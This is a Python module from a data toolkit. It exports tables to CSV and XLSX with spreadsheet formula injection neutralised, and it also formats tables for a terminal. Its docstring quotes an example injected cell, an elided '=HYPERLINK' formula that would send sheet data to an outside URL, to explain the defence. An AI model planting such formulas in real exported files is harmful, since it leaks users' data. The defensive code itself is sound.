"""Write tables to CSV and XLSX with no live formula: the one home of that rule.

A spreadsheet runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and Excel also after a leading tab or carriage return), so a customer named
``=HYPERLINK("http://…/?d="&A1,"click")`` in a file the toolkit writes would be a live
link that sends the sheet away. Every CSV and XLSX the toolkit writes goes through
:func:`write_table` (or :func:`csv_text` for standard output), which neutralises such
text as OWASP's guidance on CSV injection says: a single quote goes before it.

- Only text is neutralised, in the header row and in every cell; numbers, dates and
  booleans are written as they are (-3 stays the number -3).
- In XLSX every text cell is written as a typed string, never as a formula (nor as an
  error value such as ``#N/A``), with its text exactly as stored: text starting with a
  formula starter carries Excel's own quote prefix (the apostrophe Excel shows in the
  formula bar but keeps out of the value), so editing the cell keeps it text.
- In CSV, text that already starts with quotes before a formula starter (``'=x``) gets
  one more, so that :func:`unneutralise`, which the import applies to every cell and
  header of a CSV-like file (:data:`TEXT_SUFFIXES`), takes exactly one off: export →
  import gives back the stored text exactly. XLSX cells are imported as they are.

Examples
--------
>>> neutralise("=1+1"), neutralise("-3 apples"), neutralise("'=x"), neutralise("'tis")
("'=1+1", "'-3 apples", "''=x", "'tis")
>>> all(unneutralise(neutralise(t)) == t for t in ["=1+1", "'=x", "''@x", "'tis", "plain"])
True
"""

from __future__ import annotations

import contextlib
import os
import re
import threading
from pathlib import Path

import numpy as np
import pandas as pd

from toolkit._files import path_problem
from toolkit.errors import DataValidationError

__all__ = [
    "FORMULA_START",
    "TEXT_SUFFIXES",
    "neutralise",
    "unneutralise",
    "neutralise_cells",
    "unneutralise_cells",
    "csv_text",
    "write_table",
]

#: Text starting with one of these would run as a formula in a spreadsheet.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_STARTER = "[" + re.escape("".join(FORMULA_START)) + "]"
#: Text the export neutralises: quotes (any number, none included) then a starter.
_RISKY = re.compile("'*" + _STARTER)
#: Text the import takes one quote off: at least one quote, then a starter.
_NEUTRALISED = re.compile("'+" + _STARTER)
#: Files read as text, where a quote before formula text is the export's (and comes off).
TEXT_SUFFIXES = (".csv", ".tsv", ".txt", ".tab")
#: The longest text an XLSX cell holds.
XLSX_CELL_LIMIT = 32_767
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def neutralise(text: str) -> str:
    """``text`` with a single quote before it when a spreadsheet would run it."""
    return "'" + text if _RISKY.match(text) else text


def unneutralise(text: str) -> str:
    """Take off the quote :func:`neutralise` put on (the inverse for every text)."""
    return text[1:] if _NEUTRALISED.match(text) else text


def _is_text(series: pd.Series) -> pd.Series:
    return series.map(lambda v: isinstance(v, str)).astype(bool)


def neutralise_cells(series: pd.Series) -> pd.Series:
    """:func:`neutralise` each text cell of ``series``; other cells are left as they are."""
    kind = series.dtype
    if not pd.api.types.is_timedelta64_dtype(kind) and (
        pd.api.types.is_numeric_dtype(kind)
        or pd.api.types.is_bool_dtype(kind)
        or pd.api.types.is_datetime64_any_dtype(kind)
    ):
        return series
    # A category, a duration or any other column is written as its text.
    text = series.astype(object)
    if pd.api.types.is_timedelta64_dtype(kind):
        text = series.astype(str).where(series.notna(), None).astype(object)
    is_text = _is_text(text)
    risky = is_text & text.where(is_text, "").astype(str).str.match(_RISKY.pattern)
    if not risky.any():
        return text
    return text.where(~risky, "'" + text.where(risky, "").astype(str))


def unneutralise_cells(text: pd.Series) -> pd.Series:
    """:func:`unneutralise` each cell of ``text`` (a column of str, as files are read)."""
    marked = text.str.match(_NEUTRALISED.pattern, na=False).astype(bool)
    return text.where(~marked, text.str[1:]) if marked.any() else text


def _safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every text cell and header neutralised."""
    out = pd.DataFrame({i: neutralise_cells(frame.iloc[:, i]) for i in range(frame.shape[1])})
    out.columns = [neutralise(str(c)) for c in frame.columns]
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index, one newline after each row), neutralised, for standard output."""
    return _safe_frame(frame).to_csv(index=False, lineterminator="\n")


def write_table(frame: pd.DataFrame, path: str | Path, *, sheet: str = "Sheet1") -> None:
    """Write ``frame`` to ``path`` (.csv: UTF-8; .xlsx: one sheet), formulas neutralised.

    The file appears whole or not at all: it is written beside ``path`` and renamed into
    place. Missing values are empty cells.

    Raises
    ------
    DataValidationError
        ``path`` does not end in .csv or .xlsx, cannot be written (a folder that cannot
        be made or written to, a device, a folder of that name), or a text cannot go in
        an XLSX cell (a control character, or longer than 32,767 characters).
    """
    path = Path(path)
    suffix = path.suffix.lower()
    if suffix not in (".csv", ".xlsx"):
        raise DataValidationError(
            f"{path}: the toolkit writes .csv or .xlsx files; give a name ending in one of them."
        )
    tmp = path.with_name(f".{path.name}.{os.getpid()}.{threading.get_ident()}.partial")
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_dir():
            raise IsADirectoryError(21, "Is a folder")
        if path.exists() and not path.is_file():
            raise OSError(0, "it is a device or special file, not a plain file")
        if suffix == ".csv":
            _safe_frame(frame).to_csv(tmp, index=False, encoding="utf-8", lineterminator="\n")
        else:
            _write_xlsx(frame, tmp, sheet, path.name)
        os.replace(tmp, path)
    except OSError as err:
        raise DataValidationError(
            f"{path}: cannot write the file there ({path_problem(err)}). Give a file name in a "
            "folder you can write to, such as out/table.csv."
        ) from err
    finally:
        with contextlib.suppress(OSError):
            tmp.unlink(missing_ok=True)


def _xlsx_values(series: pd.Series) -> list:
    """A column's cells as values openpyxl writes with their types (None: empty)."""
    if isinstance(series.dtype, pd.DatetimeTZDtype):
        series = series.dt.tz_localize(None)
    missing = series.isna().to_numpy()
    values = series.astype(object).tolist()
    for i, v in enumerate(values):
        if missing[i]:
            values[i] = None
        elif not isinstance(v, str | int | float | bool | pd.Timestamp):
            values[i] = str(v)
    return values


def _check_xlsx_text(frame: pd.DataFrame, name: str) -> None:
    """Refuse text an XLSX cell cannot hold, naming its cell, before anything is written."""
    columns = [str(c) for c in frame.columns]
    cells = [("header", 1, c) for c in columns]
    for i, column in enumerate(columns):
        series = frame.iloc[:, i]
        if series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            cells += [(column, n, v) for n, v in enumerate(series.tolist(), start=2)]
    for column, row, value in cells:
        if not isinstance(value, str):
            continue
        bad = _XLSX_ILLEGAL.search(value)
        if bad or len(value) >= XLSX_CELL_LIMIT:
            what = (
                f"holds a control character (U+{ord(bad.group()):04X})"
                if bad
                else f"is longer than the {XLSX_CELL_LIMIT:,} characters an XLSX cell holds"
            )
            raise DataValidationError(
                f"{name}: column {column!r}, row {row}, {what}. Write a .csv file instead."
            )


def _write_xlsx(frame: pd.DataFrame, path: Path, sheet: str, name: str) -> None:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    _check_xlsx_text(frame, name)
    book = Workbook(write_only=True)
    ws = book.create_sheet(sheet[:31])

    def cell(value):
        if not isinstance(value, str):
            return value
        typed = WriteOnlyCell(ws, value=value)
        typed.data_type = "s"  # a string, never a formula or an error value
        if _RISKY.match(value):
            typed.quotePrefix = True  # stays text when someone edits the cell in Excel
        return typed

    ws.append([cell(str(c)) for c in frame.columns])
    data = [_xlsx_values(frame.iloc[:, i]) for i in range(frame.shape[1])]
    for row in zip(*data, strict=True):
        ws.append([cell(v) for v in row])
    book.save(path)


# ----------------------------------------------------------------------------- a terminal


_SHARE = re.compile(r"(^|_)(share|top_box|coverage)(_|$)")
_P = re.compile(r"(^|_)(p|p_value|p_holm)$")
_MAX_CELL = 32
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _share_columns(frame: pd.DataFrame) -> set[str]:
    """Columns that hold shares: named so (``customer_share``, ``top_box``), and the interval
    ends of a share (``customer_ci_low`` beside ``customer_share``).
    """
    names = {str(c) for c in frame.columns}
    shares = {c for c in names if _SHARE.search(c)}
    for column in names:
        for end in ("_ci_low", "_ci_high"):
            if column.endswith(end) and f"{column[: -len(end)]}_share" in names:
                shares.add(column)
    return shares


def _cell_words(value: object, column: str, shares: set[str], suppressed: bool) -> str:
    from toolkit._words import DASH, fmt_count, fmt_number, is_missing, p_value, pct

    if isinstance(value, bool):
        return "yes" if value else "no"
    if is_missing(value):
        return "suppressed" if suppressed else DASH
    if isinstance(value, int) or (hasattr(value, "dtype") and str(value.dtype).startswith("int")):
        return fmt_count(value)
    if isinstance(value, float):
        if column in shares:
            return pct(value)
        if _P.search(column):
            return p_value(value).removeprefix("p = ").removeprefix("p ")
        return fmt_count(value) if value.is_integer() and abs(value) >= 100 else fmt_number(value)
    # Control characters (a terminal's escape codes among them) never reach the terminal.
    text = " ".join(_CONTROL.sub("", str(value)).split())
    return text if len(text) <= _MAX_CELL else text[: _MAX_CELL - 1] + "…"


def aligned_text(frame: pd.DataFrame) -> str:
    """``frame`` as an aligned, rounded table for a person at a terminal.

    Numbers as the reports word them (:mod:`toolkit._words`): shares as percentages,
    other decimals to two places, p-values to three, counts with thousands separators;
    true and false as yes and no; missing values as ``–``, or ``suppressed`` in a row the
    small-group rule suppressed. Numbers align right, text left; long text is cut with
    ``…``. Scripts read CSV instead (:func:`csv_text`).

    Examples
    --------
    >>> frame = pd.DataFrame({"label": ["Milk", "Bus"], "customer_share": [0.3682, None],
    ...                       "customer_n": [81, 2], "suppressed": [False, True]})
    >>> print(aligned_text(frame))
    label  customer share  customer n  suppressed
    -----  --------------  ----------  ----------
    Milk              37%          81  no
    Bus        suppressed           2  yes
    """
    shares = _share_columns(frame)
    flags = (
        frame["suppressed"].astype("boolean").fillna(False).astype(bool).tolist()
        if "suppressed" in frame
        else [False] * len(frame)
    )
    heads = [str(c).replace("_", " ") for c in frame.columns]
    columns = []
    for column in frame.columns:
        values = frame[column].astype(object).tolist()
        cells = [
            _cell_words(v, str(column), shares, flag) for v, flag in zip(values, flags, strict=True)
        ]
        numeric = pd.api.types.is_numeric_dtype(frame[column]) and not pd.api.types.is_bool_dtype(
            frame[column]
        )
        columns.append((cells, numeric))
    widths = [
        max([len(h), *(len(c) for c in cells)])
        for h, (cells, _) in zip(heads, columns, strict=True)
    ]

    def line(parts: list[str], right: list[bool]) -> str:
        return "  ".join(
            p.rjust(w) if r else p.ljust(w) for p, w, r in zip(parts, widths, right, strict=True)
        ).rstrip()

    right = [numeric for _, numeric in columns]
    rows = [line(heads, right), line(["-" * w for w in widths], [False] * len(widths))]
    for i in range(len(frame)):
        rows.append(line([cells[i] for cells, _ in columns], right))
    return "\n".join(rows)


# ----------------------------------------------------------------- Arrow-held text

#: Every character ``str.strip`` takes away (those for which ``str.isspace`` is true).
SPACES = (
    "\t\n\x0b\x0c\r\x1c\x1d\x1e\x1f \x85\xa0\u1680\u2000\u2001\u2002\u2003\u2004\u2005"
    "\u2006\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000"
)


def arrow_cells(series: pd.Series):
    """The cells of a text column held by Arrow (what ``read_csv`` gives), else None.

    Judging such a column with pyarrow.compute runs in C with no Python string per cell;
    turning it into Python objects first costs about a second a million cells.
    """
    if not isinstance(series.array, pd.arrays.ArrowStringArray):
        return None
    import pyarrow as pa

    return pa.chunked_array(pa.array(series.array))


def edge_is_space(cells, *, last: bool = False) -> np.ndarray:
    """Per cell of Arrow text, whether its first (``last``: its last) character is a
    space (one of :data:`SPACES`); false for missing and empty cells.

    The edge byte of every cell is looked up in a table, with no new array of text;
    only cells whose edge character is not ASCII are sliced by Arrow.
    """
    parts = [_edge_is_space(chunk, last) for chunk in cells.chunks]
    return np.concatenate(parts) if parts else np.zeros(0, dtype=bool)


_ASCII_SPACE = np.array([chr(c) in SPACES for c in range(128)] + [False] * 128)


def _edge_is_space(chunk, last: bool) -> np.ndarray:
    import pyarrow as pa
    import pyarrow.compute as pc

    wide_offsets = pa.types.is_large_string(chunk.type) or pa.types.is_large_binary(chunk.type)
    at = chunk.offset
    offsets = np.frombuffer(chunk.buffers()[1], np.int64 if wide_offsets else np.int32)
    offsets = offsets[at : at + len(chunk) + 1]
    data = np.frombuffer(chunk.buffers()[2] or b"", np.uint8)
    has = offsets[1:] > offsets[:-1]
    if chunk.null_count:
        has &= chunk.is_valid().to_numpy(zero_copy_only=False)
    byte = np.zeros(len(chunk), dtype=np.uint8)
    byte[has] = data[(offsets[1:] - 1 if last else offsets[:-1])[has]]
    out = _ASCII_SPACE[byte] & has
    wide = np.flatnonzero(has & (byte >= 128))  # a character of several bytes
    if wide.size:
        edge = pc.utf8_slice_codeunits(chunk.take(wide), -1 if last else 0, None if last else 1)
        out[wide] = pc.is_in(edge, value_set=pa.array(list(SPACES))).to_numpy(zero_copy_only=False)
    return out


def space_at_edges(series: pd.Series) -> bool | None:
    """Whether a cell starts or ends with a space (``str.isspace``); None: not Arrow text.

    >>> space_at_edges(pd.Series(["a", "b"], dtype="str")), space_at_edges(pd.Series(["a "], dtype="str"))
    (False, True)
    """
    cells = arrow_cells(series)
    if cells is None:
        return None
    return bool(edge_is_space(cells).any() or edge_is_space(cells, last=True).any())


def starts_with_any(series: pd.Series, prefix: str) -> bool | None:
    """Whether a cell starts with ``prefix``; None: not Arrow text."""
    cells = arrow_cells(series)
    if cells is None:
        return None
    import pyarrow.compute as pc

    return bool(pc.any(pc.starts_with(cells, prefix)).as_py())
